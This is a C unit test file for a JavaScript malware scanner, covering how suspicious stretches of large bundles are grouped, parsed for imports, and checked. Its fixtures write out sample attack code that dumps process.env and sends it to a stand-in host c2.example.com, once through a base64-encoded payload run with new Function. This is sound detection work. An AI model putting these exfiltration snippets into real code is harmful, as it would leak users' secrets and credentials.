/* content/piece.h: what lies together in a large script is read as a small one; what is spread over it is not. */
#include "test.h"

#include "base/buf.h"
#include "crypto/digest.h"
#include "scanner/content/mark.h"
#include "scanner/content/piece.h"
#include "scanner/content/scan_file.h"

#include <stdlib.h>

#define TOGETHER 3u /* of piece.c: stretches */

static struct buf source;
static uint32_t stretches[2 * CONTENT_PIECES_BYTES / PATTERN_STRETCH];
static struct js_tokens tokens;
static struct piece_list pieces;

/* Statements of eight bytes that mark nothing. */
static void filler(size_t bytes)
{
	for (size_t i = 0; i + 8 <= bytes; i += 8)
		buf_text(&source, T("a(b,c);\n"));
}

static void find(uint32_t count)
{
	struct pattern_hits hits = {.stretches = stretches, .stretch_count = count};

	buf_clear(&source);
	filler((size_t)count * PATTERN_STRETCH);
	pieces_find(buf_view(&source), &hits, &pieces);
}

static void clear(void)
{
	memset(stretches, 0, sizeof stretches);
}

static void test_together(void **state)
{
	(void)state;
	clear();
	stretches[40] = MARK_NET;
	stretches[40 + TOGETHER - 1] = MARK_ENV;
	find(100);
	assert_int_equal(pieces.count, 1);
	assert_in_range(pieces.list[0].from, 38 * PATTERN_STRETCH, 40 * PATTERN_STRETCH);
	assert_in_range(pieces.list[0].to, (40 + TOGETHER) * PATTERN_STRETCH, (42 + TOGETHER) * PATTERN_STRETCH);
	stretches[40 + TOGETHER - 1] = 0;
	stretches[40 + TOGETHER] = MARK_ENV;
	find(100);
	assert_int_equal(pieces.count, 0);
	clear();
	stretches[99] = MARK_EXEC | MARK_SHELL; /* at the end of the script */
	find(100);
	assert_int_equal(pieces.count, 1);
	assert_int_equal(pieces.list[0].to, source.n);
	clear();
	stretches[0] = MARK_EXEC | MARK_SHELL; /* at its begin */
	find(100);
	assert_int_equal(pieces.count, 1);
	assert_int_equal(pieces.list[0].from, 0);
}

static void test_alone(void **state)
{
	(void)state;
	for (unsigned i = 0; i < 32; i++) {
		uint32_t mark = 1u << i;
		assert_int_equal(mark_wants_piece(mark), mark == MARK_METADATA || mark == MARK_PERSIST || mark == MARK_AGENT);
	}
	assert_true(mark_wants_piece(MARK_MAY_NET | MARK_SECRET));
	assert_true(mark_wants_piece(MARK_WALLET | MARK_HEXADECIMAL));
	assert_true(mark_wants_piece(MARK_DESTROY | MARK_HOST));
	assert_true(mark_wants_piece(MARK_MAY_NET | MARK_WRITE | MARK_SELF));
	assert_false(mark_wants_piece(MARK_NET | MARK_SELF));
	assert_false(mark_wants_piece(MARK_NET | MARK_DECODE));
	assert_false(mark_wants_piece(MARK_ENV | MARK_WRITE));
}

/* A long one is parted, and no byte of it is read twice or left out. */
static void test_long(void **state)
{
	uint32_t n = CONTENT_PIECE_MAX / PATTERN_STRETCH;

	(void)state;
	for (uint32_t more = 0; more <= 1; more++) {
		clear();
		for (uint32_t i = 0; i < n + 1 - TOGETHER + more; i++)
			stretches[100 + i] = MARK_NET | MARK_ENV;
		find(200);
		assert_int_equal(pieces.count, 1 + more);
		assert_true(!more || pieces.list[1].from == pieces.list[0].to);
	}
}

static void test_many(void **state)
{
	(void)state;
	for (uint32_t n = CONTENT_PIECES_MAX; n <= CONTENT_PIECES_MAX + 1; n++) {
		clear();
		for (uint32_t i = 0; i < n; i++)
			stretches[8 * i] = MARK_NET | MARK_ENV;
		find(8 * n);
		assert_int_equal(pieces.count, CONTENT_PIECES_MAX);
		assert_int_equal(pieces.more, n > CONTENT_PIECES_MAX);
	}
}

/* So many bytes in all, where each piece is as long as one can be. */
static void test_bytes(void **state)
{
	uint32_t all = 0;

	(void)state;
	clear();
	for (uint32_t i = 0; i < 2 * CONTENT_PIECES_BYTES / PATTERN_STRETCH; i++)
		stretches[i] = MARK_NET | MARK_ENV;
	find(CONTENT_PIECES_BYTES / PATTERN_STRETCH);
	assert_false(pieces.more);
	for (uint32_t i = 0; i < pieces.count; i++) {
		assert_true(i == 0 ? pieces.list[i].from == 0 : pieces.list[i].from == pieces.list[i - 1].to);
		all += pieces.list[i].to - pieces.list[i].from;
	}
	assert_int_equal(all, CONTENT_PIECES_BYTES);
	find(CONTENT_PIECES_BYTES / PATTERN_STRETCH + 1);
	assert_true(pieces.more);
}

static uint32_t blocks_of(const char *script, struct piece out[CONTENT_BLOCKS_MAX])
{
	struct text t = text_of(script);

	assert_true(js_lex(&tokens, t));
	return piece_blocks(&tokens, (struct piece){0, (uint32_t)t.n}, out);
}

static void test_blocks(void **state)
{
	struct piece out[CONTENT_BLOCKS_MAX];
	struct buf many = BUF(1u << 16);

	(void)state;
	assert_int_equal(blocks_of("a(); function f() { b(); } '}' + `}`;", out), 1);
	assert_int_equal(blocks_of("inner(e); } outer(e);", out), 2);
	assert_int_equal(out[0].to, 10);
	assert_int_equal(out[1].from, 11);
	assert_int_equal(out[1].to, 21);
	for (uint32_t n = CONTENT_BLOCKS_MAX - 1; n <= CONTENT_BLOCKS_MAX; n++) {
		buf_clear(&many);
		for (uint32_t i = 0; i < n; i++)
			buf_text(&many, T("a();}"));
		buf_char(&many, '\0');
		assert_int_equal(blocks_of(many.p, out), n);
		assert_int_equal(out[n - 1].to, many.n - (n < CONTENT_BLOCKS_MAX ? 2 : 1));
	}
	buf_free(&many);
}

/* A piece that begins or ends within a text: what stands in it may be run, and no quote of it turns what is behind it. */
static void test_blocks_in_texts(void **state)
{
	static const char script[] = "first('a; var `', 1); second(`b; ${third(c)} d`); fourth();";
	struct piece out[CONTENT_BLOCKS_MAX];
	struct text t = text_of(script);
	uint32_t at = (uint32_t)text_find(t, T("var")), in = (uint32_t)text_find(t, T("third"));

	(void)state;
	assert_true(js_lex(&tokens, t));
	assert_int_equal(piece_blocks(&tokens, (struct piece){at, (uint32_t)t.n}, out), 2);
	assert_int_equal(out[0].from, at);
	assert_int_equal(out[0].to, text_find(t, T(", 1)")));
	assert_int_equal(out[1].from, text_find(t, T("second")));
	assert_int_equal(out[1].to, t.n);
	assert_int_equal(piece_blocks(&tokens, (struct piece){in, (uint32_t)t.n}, out), 1);
	assert_int_equal(out[0].from, text_find(t, T("fourth")));
	assert_int_equal(piece_blocks(&tokens, (struct piece){0, at}, out), 1);
	assert_int_equal(out[0].to, text_find(t, T(", 1)")));
}

/* A long text is cut where the piece ends. */
static void test_text_most(void **state)
{
	struct piece out[CONTENT_BLOCKS_MAX];
	struct buf script = BUF(1u << 20);

	(void)state;
	for (uint32_t n = CONTENT_PIECE_TEXT; n <= CONTENT_PIECE_TEXT + 1; n++) {
		buf_clear(&script);
		buf_char(&script, '\'');
		for (uint32_t i = 0; i + 2 < n; i++)
			buf_char(&script, 'a');
		buf_text(&script, T("'"));
		assert_true(js_lex(&tokens, buf_view(&script)));
		assert_int_equal(piece_blocks(&tokens, (struct piece){0, 64}, out), 1);
		assert_int_equal(out[0].to, n > CONTENT_PIECE_TEXT ? 64 : n);
	}
	buf_free(&script);
}

static const char *imports_of(const char *script)
{
	buf_clear(&source);
	assert_true(js_lex(&tokens, text_of(script)));
	piece_imports(&tokens, &source);
	buf_char(&source, '\0');
	assert_false(source.failed);
	return source.p;
}

static void test_imports(void **state)
{
	(void)state;
	assert_string_equal(imports_of("var proc = require(\"child_process\"), x = require('a' + b);"), "var proc=require(\"child_process\");\n");
	assert_string_equal(imports_of("var import_fs = __toESM(require('fs'));"), "var import_fs=require('fs');\n");
	/* short names are many things there; what is put into a member has no name of its own */
	assert_string_equal(imports_of("var e=require(\"fs\");exports.net=require('net');let abc=require('os')"), "var abc=require('os');\n");
	assert_string_equal(imports_of("import proc,{exec as run}from\"child_process\";import * as o from 'os';"),
			    "import proc,{exec as run}from\"child_process\";import * as o from 'os';\n");
	assert_string_equal(imports_of("const a = Array.from('x'); // comes from 'here'\nimportant from \"b\""), "\n");
	assert_string_equal(imports_of("require(\"fs"), "\n");
	assert_string_equal(imports_of("fail('import module x from \"os\" is not allowed'); import from \"os\"; import x from \"./x\""), "\n");
	assert_string_equal(imports_of("import x , * as y from 'os'"), "import x , * as y from 'os';\n");
	assert_string_equal(imports_of("const {exec, spawn: run, fork: e} = require('child_process'), {a = 1} = require('b')"),
			    "var {exec}=require('child_process');var {spawn: run}=require('child_process');\n");
	assert_string_equal(imports_of("var proc_1 = tslib_1.__importStar(__require('child_process'))"), "var proc_1=require('child_process');\n");
	/* none of them opens a text or a comment in front of every piece */
	assert_string_equal(imports_of("// import ` from 'x'\n'import /* from \"y\"'; import {a from 'z'; import b} from 'w'"), "\n");
}

static void test_imports_most(void **state)
{
	struct buf script = BUF(1u << 20);
	size_t each = sizeof "var abcde=require('fs');" - 1, most = CONTENT_PIECE_IMPORTS / (each + 8);

	(void)state;
	for (size_t n = most; n <= most + 1000; n += 1000) {
		buf_clear(&script);
		for (size_t i = 0; i < n; i++)
			buf_text(&script, T("abcde = require('fs');\n"));
		buf_clear(&source);
		assert_true(js_lex(&tokens, buf_view(&script)));
		piece_imports(&tokens, &source);
		assert_true(source.n <= CONTENT_PIECE_IMPORTS + 1);
		assert_true(n > most ? source.n > CONTENT_PIECE_IMPORTS - 2 * each : source.n == n * each + 1);
	}
	buf_free(&script);
}

/* --- the whole pass --- */

static struct content_engine *engine;
static struct content_worker *worker;
static struct arena *arena;
static struct file file;

static void scanned(void)
{
	arena_reset(arena);
	assert_false(source.failed);
	file = (struct file){.path = T("a.js"), .size = source.n, .package = DEP_NONE, .via = DEP_NONE};
	assert_true(content_scan_file(worker, file.path, buf_view(&source), arena, &file));
}

static const struct act *sent(void)
{
	for (uint32_t i = 0; i < file.act_count; i++)
		if (file.acts[i].behaviour == BEHAVE_SEND && file.acts[i].flags & ACT_ENV_ARG)
			return &file.acts[i];
	return NULL;
}

#define READS "const taken = JSON.stringify(Object.assign({}, process.env));\n"
#define SENDS "https.request('https://c2.example.com/', {method: 'POST'}).end(taken);\n"

/* https is imported in the first line, and what is taken and sent stands so far apart. */
static void bundle(size_t between)
{
	buf_clear(&source);
	buf_text(&source, T("var https = require(\"https\");\n"));
	filler(CONTENT_BUNDLE);
	buf_text(&source, T("function report() {\n" READS));
	filler(between);
	buf_text(&source, T(SENDS "}\nreport();\n"));
	filler(CONTENT_BUNDLE);
}

static void test_in_place(void **state)
{
	(void)state;
	bundle(0);
	scanned();
	const struct act *a = sent();
	size_t at = text_find(buf_view(&source), T("https.request"));
	assert_true(a && a->offset == at && a->line == 1 + CONTENT_BUNDLE / 8 + 3 && a->column == 1);
	assert_int_equal(file.limits, 0);
	assert_false(file.deep);
	bundle((TOGETHER + 1) * (size_t)PATTERN_STRETCH);
	scanned();
	assert_null(sent());
}

/* Something in the first piece, as far from the begin of the file as the same is from that of a later piece. */
static void test_same_place(void **state)
{
	(void)state;
	for (size_t n = 0; n <= 4096; n += 8) {
		uint32_t count = 0;
		buf_clear(&source);
		filler(n);
		buf_text(&source, T(" fetch('https://c2.example.com/' + JSON.stringify(Object.assign({}, process.env)));\n"));
		filler(CONTENT_BUNDLE + 4096 - n);
		buf_text(&source, T("fetch('https://c2.example.com/' + JSON.stringify(Object.assign({}, process.env)));\n"));
		filler(8 * (size_t)PATTERN_STRETCH);
		scanned();
		for (uint32_t i = 0; i < file.act_count; i++)
			count += file.acts[i].behaviour == BEHAVE_SEND && file.acts[i].flags & ACT_ENV_ARG;
		assert_int_equal(count, 2);
	}
}

/* What is decoded there is kept with its place. */
static void test_layers(void **state)
{
	(void)state;
	buf_clear(&source);
	filler(CONTENT_BUNDLE);
	buf_text(&source, T("var code = Buffer.from('ZmV0Y2goJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20vJyk=', 'base64').toString();\nnew Function(code)();\n"));
	filler(CONTENT_BUNDLE);
	scanned();
	assert_true(file.layer_count > 1);
	size_t at = text_find(buf_view(&source), T("Buffer.from"));
	assert_in_range(file.layers[1].offset, at - 8, at + 8);
}

/* As much of a bundle is tokenized for a piece. */
static void test_around(void **state)
{
	struct piece piece = {300000, 308000}, near;

	(void)state;
	for (size_t n = CONTENT_PIECE_WHOLE; n <= CONTENT_PIECE_WHOLE + 8; n += 8) {
		buf_clear(&source);
		filler(n);
		near = piece_around(buf_view(&source), piece);
		if (n == CONTENT_PIECE_WHOLE) {
			assert_int_equal(near.from, 0);
			assert_int_equal(near.to, n);
			continue;
		}
		assert_in_range(near.from, piece.from - CONTENT_PIECE_AHEAD - 2048, piece.from - CONTENT_PIECE_AHEAD);
		assert_int_equal(near.to, piece.to + CONTENT_PIECE_TEXT);
		near = piece_around(buf_view(&source), (struct piece){0, 8000});
		assert_int_equal(near.from, 0);
		near = piece_around(buf_view(&source), (struct piece){(uint32_t)n - 8000, (uint32_t)n});
		assert_int_equal(near.to, n);
	}
}

/* The payload of a bundle that is not tokenized whole, and its places. */
static void test_far_in(void **state)
{
	(void)state;
	buf_clear(&source);
	buf_text(&source, T("var https = require(\"https\");\n"));
	filler(CONTENT_PIECE_WHOLE);
	buf_text(&source, T("function report() {\n" READS SENDS "}\nreport();\n"));
	filler(CONTENT_BUNDLE);
	scanned();
	const struct act *a = sent();
	assert_true(a && a->offset == text_find(buf_view(&source), T("https.request")) && a->line == 1 + CONTENT_PIECE_WHOLE / 8 + 3);
}

static int setup(void **state)
{
	(void)state;
	source = BUF((size_t)8 << 20);
	arena = arena_new((size_t)256 << 20);
	return arena && crypto_init() && content_engine_new(NULL, -1, &engine, NULL) && (worker = content_worker_new(engine)) ? 0 : 1;
}

static int teardown(void **state)
{
	(void)state;
	content_worker_free(worker);
	content_engine_free(engine);
	arena_free(arena);
	js_tokens_free(&tokens);
	buf_free(&source);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_around),	 cmocka_unit_test(test_far_in),
		cmocka_unit_test(test_together), cmocka_unit_test(test_alone),	 cmocka_unit_test(test_long),
		cmocka_unit_test(test_many),	 cmocka_unit_test(test_bytes),	 cmocka_unit_test(test_blocks),
		cmocka_unit_test(test_blocks_in_texts), cmocka_unit_test(test_text_most),
		cmocka_unit_test(test_imports),	 cmocka_unit_test(test_imports_most), cmocka_unit_test(test_in_place),
		cmocka_unit_test(test_same_place), cmocka_unit_test(test_layers),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
